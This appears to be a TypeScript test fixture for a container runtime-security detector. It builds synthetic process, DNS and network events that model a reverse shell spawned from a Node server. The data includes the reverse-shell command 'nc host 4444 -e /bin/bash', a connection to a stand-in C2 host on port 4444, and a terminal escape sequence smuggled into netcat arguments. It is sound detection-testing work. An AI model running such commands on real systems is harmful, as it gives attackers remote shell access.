import { encodeExecId } from '../../src/model/exec-id.js';

const NODE = 'kind-worker';
const CONTAINER = '62c56f1f798e45de3effa7511e05009e292607f5cd80e28213f37aedc8f4cde7';
/** Clock time at which the node booted, so that exec ids and start times agree. */
const BOOT_MS = Date.UTC(2023, 6, 26, 7, 0);

/** Exec id of a process that began so many seconds after the node booted. */
export function execId(second: number, pid: number): string {
  return encodeExecId({ node: NODE, ktimeNs: BigInt(second) * 1_000_000_000n, pid });
}

function at(second: number): string {
  return new Date(BOOT_MS + second * 1000).toISOString();
}

const POD = {
  namespace: 'tenant-jobs',
  name: 'crawler-7c5d',
  workload: 'crawler',
  workload_kind: 'Deployment',
  container: {
    id: `containerd://${CONTAINER}`,
    name: 'crawler',
    image: { id: 'registry.example/crawler@sha256:00', name: 'registry.example/crawler:1' },
    start_time: at(60),
    pid: 1,
  },
};

function process(second: number, pid: number, binary: string, words: string, parent: string) {
  return {
    exec_id: execId(second, pid),
    pid,
    uid: 0,
    cwd: '/app',
    binary,
    arguments: words,
    flags: 'execve clone',
    start_time: at(second),
    auid: 4_294_967_295,
    pod: POD,
    docker: CONTAINER.slice(0, 31),
    parent_exec_id: parent,
    in_init_tree: true,
  };
}

const SHIM = execId(50, 90);
const NODE_JS = process(60, 100, '/usr/local/bin/node', 'server.js', SHIM);
const SHELL = process(500, 200, '/bin/bash', '-i', NODE_JS.exec_id);
const NETCAT = process(510, 201, '/usr/bin/nc', `-zv ${'\u001b'}[2Jhost 9200`, SHELL.exec_id);

function event(kind: string, second: number, fields: object): string {
  return JSON.stringify({ [kind]: fields, node_name: NODE, time: at(second) });
}

const SOCKET = { source_ip: '10.244.0.5', source_port: 41_000, destination_ip: '203.0.113.9', destination_port: 4444 };
const DNS = { question_types: [1], names: ['c2.example.com.'], response: true, ips: ['203.0.113.9'], answer_types: [1] };

/** A node server that a reverse shell grows out of 440 seconds after its container started: the smallest story with everything in it. */
export const STORY: readonly string[] = [
  event('process_exec', 60, { process: NODE_JS }),
  event('process_exec', 500, { process: SHELL, parent: NODE_JS }),
  event('process_dns', 501, { process: SHELL, destination_ip: '10.96.0.10', destination_port: 53, protocol: 'UDP', dns: DNS }),
  event('process_connect', 502, { process: SHELL, ...SOCKET, sock_cookie: '18446635882140893184', protocol: 'TCP' }),
  event('process_exec', 510, { process: NETCAT, parent: SHELL }),
  event('process_exit', 511, { process: NETCAT, parent: SHELL, status: 1, time: at(511) }),
  event('process_close', 600, { process: SHELL, ...SOCKET, sock_cookie: '18446635882140893184', protocol: 'TCP' }),
];

const CLIENT = process(495, 200, '/usr/bin/nc', 'host 4444 -e /bin/bash', NODE_JS.exec_id);

/** A network client that becomes a shell while its connection is open: the plainest reverse shell there is. */
export const TAKEN_OVER: readonly string[] = [
  event('process_exec', 60, { process: NODE_JS }),
  event('process_exec', 495, { process: CLIENT, parent: NODE_JS }),
  event('process_connect', 496, { process: CLIENT, ...SOCKET, sock_cookie: '18446635882140893184', protocol: 'TCP' }),
  event('process_exec', 500, { process: { ...SHELL, flags: 'execve', parent_exec_id: CLIENT.exec_id }, parent: CLIENT }),
];

/** Exec id of the reverse shell of the story. */
export const SHELL_ID = SHELL.exec_id;

/** A server and nothing else. */
export const CALM: readonly string[] = STORY.slice(0, 1);

/** A line that begins like an event and breaks off. */
export const BROKEN_LINE = '{"process_exec":{"process":';
